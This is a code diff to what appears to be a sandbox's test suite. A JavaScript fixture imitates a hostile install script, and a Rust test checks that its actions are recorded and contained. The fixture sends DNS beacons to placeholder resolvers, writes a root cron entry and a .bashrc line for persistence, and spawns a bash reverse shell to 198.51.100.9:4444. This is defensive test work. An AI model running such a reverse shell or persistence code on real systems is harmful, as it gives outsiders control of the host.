@@ -372,14 +372,19 @@ const cp = require('child_process');
 const dgram = require('dgram');
 const fs = require('fs');
 const os = require('os');
-// A DNS question for beacon.example sent straight to 198.51.100.53:53.
-const query = Buffer.concat([
+// DNS questions sent straight to resolvers of its own choosing: 198.51.100.53:53, and
+// [2001:db8::53]:53 (an answer from there leaves a mark in the home directory).
+const question = (label) => Buffer.concat([
   Buffer.from([0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]),
-  Buffer.from([6]), Buffer.from('beacon'), Buffer.from([7]), Buffer.from('example'), Buffer.from([0]),
+  Buffer.from([label.length]), Buffer.from(label), Buffer.from([7]), Buffer.from('example'), Buffer.from([0]),
   Buffer.from([0x00, 0x01, 0x00, 0x01]),
 ]);
 const udp = dgram.createSocket('udp4');
-udp.send(query, 53, '198.51.100.53', () => udp.close());
+udp.send(question('beacon'), 53, '198.51.100.53', () => udp.close());
+const udp6 = dgram.createSocket('udp6');
+udp6.on('error', () => {});
+udp6.on('message', () => { fs.writeFileSync(os.homedir() + '/answered6', 'x'); udp6.close(); });
+udp6.send(question('beacon6'), 53, '2001:db8::53');
 try { fs.writeFileSync('/etc/cron.d/dsca-fixture', '* * * * * root true\n'); } catch (e) {}
 fs.appendFileSync(os.homedir() + '/.bashrc', '\nexport FIXTURE=1\n');
 cp.spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 'ignore', detached: true }).unref();
@@ -432,13 +437,23 @@ fn hostile_shapes_are_recorded_contained_and_cleaned_up() {
     assert_eq!(run["phases"][0]["status"], "timeout", "{:#}", run["phases"]);
     // Silent clients of the script service cost PID 1 little: the 12 s limit held.
     let install_ms = run["phases"][0]["duration_ms"].as_u64().unwrap_or(u64::MAX);
-    assert!(install_ms < 14_000, "the install ran {install_ms} ms");
+    assert!(install_ms < 16_000, "the install ran {install_ms} ms");
 
     let dns = phase_records(run, "/dns");
     assert!(
         dns.iter()
             .any(|q| q["name"] == "beacon.example" && q["resolver"] == "198.51.100.53:53"),
         "the direct DNS question was not answered and recorded: {dns:#?}"
+    );
+    assert!(
+        dns.iter()
+            .any(|q| q["name"] == "beacon6.example" && q["resolver"] == "[2001:db8::53]:53"),
+        "the question to an IPv6 resolver was not recorded: {dns:#?}"
+    );
+    let files = texts(&phase_records(run, "/files"), "path");
+    assert!(
+        files.iter().any(|path| path.ends_with("/answered6")),
+        "the IPv6 resolver's answer did not arrive: {files:#?}"
     );
     let connections = phase_records(run, "/connections");
     assert!(
